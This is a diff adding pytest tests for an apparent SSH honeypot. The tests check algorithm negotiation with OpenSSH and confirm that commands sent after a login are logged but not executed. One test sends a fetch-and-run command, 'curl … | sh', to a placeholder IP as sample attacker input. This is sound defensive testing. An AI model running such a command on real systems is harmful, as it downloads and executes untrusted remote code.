@@ -213,3 +213,48 @@ def test_host_keys_survive_a_restart(decoy_process: Any, tmp_path: Path) -> None
         for name, _alg, _bits in ssh_persona.HOST_KEYS
     }
     assert {line.split(" ", 1)[1] for line in after} == expected
+
+
+def test_every_persona_algorithm_negotiates_with_openssh(decoy_process: Any) -> None:
+    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
+    proc, port = _start(decoy_process)
+    choices = (
+        [("ssh.kex_algorithm", ["-o", f"KexAlgorithms={a}"], a) for a in ssh_persona.KEX_ALGS]
+        + [("ssh.host_key_algorithm", ["-o", f"HostKeyAlgorithms={a}"], a)
+           for a in ssh_persona.HOST_KEY_ALGS]
+        + [("ssh.cipher", ["-c", a], a) for a in ssh_persona.CIPHERS]
+        + [("ssh.mac", ["-c", "aes128-ctr", "-m", a], a) for a in ssh_persona.MACS]
+    )  # fmt: skip
+    for _field, options, _alg in choices:
+        result = subprocess.run(
+            [sshpass, "-p", "x", ssh, *SSH_OPTS, "-o", "PubkeyAuthentication=no", *options,
+             "-p", str(port), "probe@127.0.0.1", "true"],
+            capture_output=True, timeout=60, check=False,
+        )  # fmt: skip
+        assert b"Permission denied" in result.stderr, (options, result.stderr[-300:])
+    _logins(proc, len(choices))
+    kex = proc.of("ssh.kex")
+    for (field, _options, alg), event in zip(choices, kex, strict=True):
+        assert event["ssh"][field.split(".", 1)[1]] == alg
+
+
+def test_accepted_login_through_openssh_runs_nothing(decoy_process: Any) -> None:
+    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
+    proc, port = _start(decoy_process, accept="deploy:deploy")
+    base = [sshpass, "-p", "deploy", ssh, *SSH_OPTS, "-o", "PubkeyAuthentication=no",
+            "-p", str(port), "deploy@127.0.0.1"]  # fmt: skip
+    result = subprocess.run(
+        [*base, "curl -s http://203.0.113.7/x | sh"], capture_output=True, timeout=60, check=False
+    )
+    assert result.returncode == 127
+    assert result.stderr.endswith(b"sh: 1: curl: not found\n")
+    shell = subprocess.run(
+        [*base, "-tt"], input=b"id\nexit\n", capture_output=True, timeout=60, check=False
+    )
+    assert b"sh: 1: id: not found" in shell.stdout
+    proc.wait_for(lambda docs: sum(d["event"]["action"] == "ssh.request" for d in docs) >= 4)
+    requests = [(e["ssh"]["request"], e["ssh"].get("command")) for e in proc.of("ssh.request")]
+    assert ("exec", "curl -s http://203.0.113.7/x | sh") in requests
+    assert ("shell", None) in requests
+    assert ("input", "id") in requests
+    assert [e["event"]["outcome"] for e in proc.of("ssh.login")] == ["success", "success"]
